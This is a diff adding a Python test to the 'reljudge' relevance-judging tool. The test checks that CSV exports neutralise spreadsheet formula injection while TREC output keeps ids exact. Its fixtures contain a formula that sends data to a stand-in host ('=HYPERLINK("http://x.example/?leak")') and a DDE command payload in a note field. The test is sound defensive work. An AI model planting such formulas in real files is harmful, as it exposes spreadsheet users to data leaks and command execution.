@@ -179,3 +179,51 @@ def test_a_bad_qrels_import_is_worded_in_korean_for_the_pages(judged, tmp_path):
     ko = i18n.message(err.value.message, "ko")
     assert str(f) in ko and "2번째 줄" in ko and "서로 다른 중복" in ko
     assert "conflicting duplicate" in str(err.value)          # the CLI's English text
+
+
+def test_no_csv_cell_is_a_live_spreadsheet_formula(db, tmp_path):
+    """Ids, names and notes that start like a formula (= + - @, tab, CR) reach every CSV
+    the tool writes as text ('=…), never as a formula a spreadsheet runs; the values stay
+    exact in TREC, TSV and JSONL, and numbers stay numbers."""
+    import csv
+    from reljudge import auth, campaign
+    from reljudge.ui.tables import csv_bytes
+    corpus = tmp_path / "corpus.jsonl"
+    corpus.write_text("".join(json.dumps({"pid": pid, "text": f"본문 {k}"}, ensure_ascii=False) + "\n" for k, pid in
+                              enumerate(['=HYPERLINK("http://x.example/?leak")', "+p2", "-p3", "@p4"])),
+                      encoding="utf-8")
+    questions = tmp_path / "questions.jsonl"
+    questions.write_text(json.dumps({"qid": "=1+1", "text": "질문?", "type": "사실 확인"}, ensure_ascii=False)
+                         + "\n" + json.dumps({"qid": "@q2", "text": "질문 둘?", "type": "사실 확인"},
+                                             ensure_ascii=False) + "\n", encoding="utf-8")
+    run = tmp_path / "s.run"
+    run.write_text('=1+1 Q0 =HYPERLINK("http://x.example/?leak") 1 9 s\n=1+1 Q0 +p2 2 8 s\n'
+                   "=1+1 Q0 -p3 3 7 s\n@q2 Q0 @p4 1 9 s\n", encoding="utf-8")
+    campaign.import_file(db, "corpus", corpus)
+    campaign.import_file(db, "questions", questions)
+    campaign.import_file(db, "run", run, system="s")
+    campaign.pool(db, 10)
+    auth.add_user(db, "@SUM", "password-1", "annotator")
+    judging.grade(db, "@SUM", "=1+1", '=HYPERLINK("http://x.example/?leak")', 2, note="=cmd|' /C calc'!A0")
+    judging.grade(db, "@SUM", "=1+1", "+p2", 0)
+    judging.mark_no_answer(db, "@SUM", "@q2", True)
+
+    def cells(path):
+        with open(path, newline="", encoding="utf-8-sig") as fh:
+            return [cell for row in csv.reader(fh) for cell in row]
+
+    qrels = export.write_qrels(db, tmp_path / "qrels.csv", "csv")
+    history = tmp_path / "history.csv"
+    export.write_judgments(db, history, "csv")
+    page = tmp_path / "page.csv"
+    page.write_bytes(csv_bytes(export.qrels_table(db)[0], "ko"))
+    for path in [*qrels.paths, history, page]:
+        written = cells(path)
+        live = [c for c in written if c.startswith(export.FORMULA_STARTS)]
+        assert not live, (path.name, live)
+        assert any(c.startswith("'=") or c.startswith("'@") for c in written), path.name
+    # TREC qrels (for programs) keep the ids exactly
+    trec = export.write_qrels(db, tmp_path / "qrels.txt", "trec")
+    assert '=1+1 0 =HYPERLINK("http://x.example/?leak") 2' in trec.paths[0].read_text(encoding="utf-8")
+    # numbers stay numbers
+    assert export.defuse_formulas(pd.DataFrame({"x": [-0.5, 1.0]})).x.tolist() == [-0.5, 1.0]
